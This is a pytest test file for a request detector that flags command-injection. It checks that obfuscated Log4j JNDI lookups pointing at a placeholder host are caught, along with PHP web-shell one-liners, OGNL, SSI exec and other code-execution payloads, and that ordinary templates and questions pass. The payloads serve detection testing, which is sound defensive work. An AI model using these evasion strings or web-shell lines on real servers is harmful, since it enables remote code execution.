"""Strings that end up being run, above all Log4j lookups however deep they are nested."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inference.code_execution import RULES
from inference.detector import Detector
from inference.engine import Engine
from inference.fields import Field
from kysira.types import DEFAULT_THRESHOLD, Place, Request, ScoreOptions
from tests.inference.linearity import assert_linear, repeated

SLUG = "command-injection"
FIELD = Field(Place.BODY, "", b"")


@pytest.fixture(scope="module")
def engine() -> Engine:
    """Return an engine of these rules alone."""
    return Engine((Detector(SLUG, RULES),))


def score(engine: Engine, text: str | bytes) -> float:
    """Return the score of a text body."""
    body = text.encode() if isinstance(text, str) else text
    return engine.score(Request("POST", b"/", body=body), ScoreOptions()).score


def nested(depth: int, lookup: str = "lower") -> str:
    """Return "j" in lookups in lookups."""
    return f"${{{lookup}:" * depth + "j" + "}" * depth


@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://x.example/a}", "${JNDI:RMI://x.example/a}", "a ${jndi:dns://x.example}",
        "${${lower:j}ndi:ldap://x.example/a}", "${${upper:j}${lower:n}di:ldap://x.example}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example}", "${jnd${upper:\u0131}:ldap://x}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example}",
        "${${lower:${lower:j}}ndi:ldap://x}", "${${sys:a:-${env:b:-j}}ndi:ldap://x}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
        "${${lower:jndi}:ldap://x}", "${${lower:jndi:}ldap://x}", "${${lower:j}ndi:ldap://x",
        "}}}${${lower:j}ndi:ldap://x}", "${a}${${lower:j}ndi:ldap://x}", "${{${{${${lower:j}ndi:l}",
        f"${{{nested(12)}ndi:ldap://x}}", f"${{{nested(13)}ndi:ldap://x}}",
        f"${{{nested(500)}ndi:ldap://x}}", f"${{{nested(40, 'upper')}ndi:ldap://x}}",
        "${x}" + "A" * 10_000 + "${${lower:j}ndi:ldap://x}",
        "${env:" + "A" * 5_000 + ":-" + "${${lower:j}ndi:ldap://x}}",
    ],
    ids=lambda text: text[:40],
)  # fmt: skip
def test_hidden_lookup_is_found(engine: Engine, text: str) -> None:
    """Log4j resolves lookups from the inside out, without a bound; so does the check."""
    assert score(engine, text) >= DEFAULT_THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "${${lower:j}}ndi:ldap://x}", "${${lower:j}nd:ldap://x}", "${${lower:x}ndi:ldap://x}",
        "${env:HOME:-${user.home}}", "`${a}${b:-c}`", "${${lower:jnd}", "${lower:jndi:}${b}",
        "${a:-jndi:}${b}", "$" + "{" * 50, "${" * 50, "}" * 50, "${a:-${b:-${c:-jndi}}}",
        "const x = `${a ? `${b}:-` : ''}`; // jndi:ldap", "${jndi}${:-}",
    ],
)  # fmt: skip
def test_other_lookups_pass(engine: Engine, text: str) -> None:
    """Templates and shell scripts have nested braces too."""
    assert score(engine, text) < DEFAULT_THRESHOLD


PIECES = st.sampled_from(["${", "}", "lower:", ":-", "jndi:", "j", "ndi:", "'", "\u0131", "{", "a"])


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_any_braces_are_read(text: str) -> None:
    """Unbalanced braces are no error, and one lookup that is written out is always found."""
    (check,) = (rule.check for rule in RULES if rule.check and rule.technique == "jndi_lookup")
    assert check(FIELD, text.encode()) in (True, False)
    assert check(FIELD, f"{text}${{jndi:ldap://x}}".encode())


@pytest.mark.parametrize(
    "unit",
    [b"${", b"${a:-", b"}", b"${${lower:j}n", b"${a}", b"${lower:" + b"x" * 200 + b"}", b":-"],
    ids=str,
)
def test_lookups_take_linear_time(unit: bytes) -> None:
    """Neither depth nor length makes a text cost more than its bytes."""
    (check,) = (rule.check for rule in RULES if rule.check and rule.technique == "jndi_lookup")
    assert_linear(lambda text: check(FIELD, text), lambda size: repeated(unit, size))
    assert_linear(
        lambda text: check(FIELD, text),
        lambda size: repeated(unit, size // 2) + b"}" * (size // 2),
    )


@pytest.mark.parametrize(
    ("technique", "text"),
    [
        ("server_side_include", '<!--#exec cmd="ls" -->'),
        ("ognl", "%{#_memberAccess=1}"),
        ("code_execution", 'Runtime.getRuntime().exec("id")'),
        ("code_execution", "__import__('os').system('id')"),
        ("code_execution", "require('child_process').exec('id')"),
        ("code_execution", "system('id')"),
        ("code_execution", "<?php system($_GET['c']); ?>"),
        ("code_execution", "<?= eval($_POST[0])"),
        ("code_probe", "echo 8123 * 4021"),
        ("image_script", "push graphic-context\nfill 'url(https://x.example/a.png)'"),
    ],
)  # fmt: skip
def test_technique_is_found(engine: Engine, technique: str, text: str) -> None:
    """One example of each; the detector's table has more."""
    verdict = engine.score(Request("POST", b"/", body=text.encode()), ScoreOptions())
    assert verdict.score >= DEFAULT_THRESHOLD
    assert any(technique in finding.reason for finding in verdict.findings)


@pytest.mark.parametrize(
    "text",
    [
        "How do I call Runtime.getRuntime().exec() from Kotlin, and read what the program wrote to"
        " its output while it still runs, without a deadlock of the two pipes in between?",
        "the system (\"id\") of the account is shown on the second page of the form that we sent"
        " you in the first week of the year, please have a look at it",
        "print('md5 sums')", "<!-- # executive summary -->", "<?php echo $title; ?>",
    ],
    ids=lambda text: text[:24],
)  # fmt: skip
def test_talk_about_code_passes(engine: Engine, text: str) -> None:
    """Questions and templates are no attack."""
    assert score(engine, text) < DEFAULT_THRESHOLD
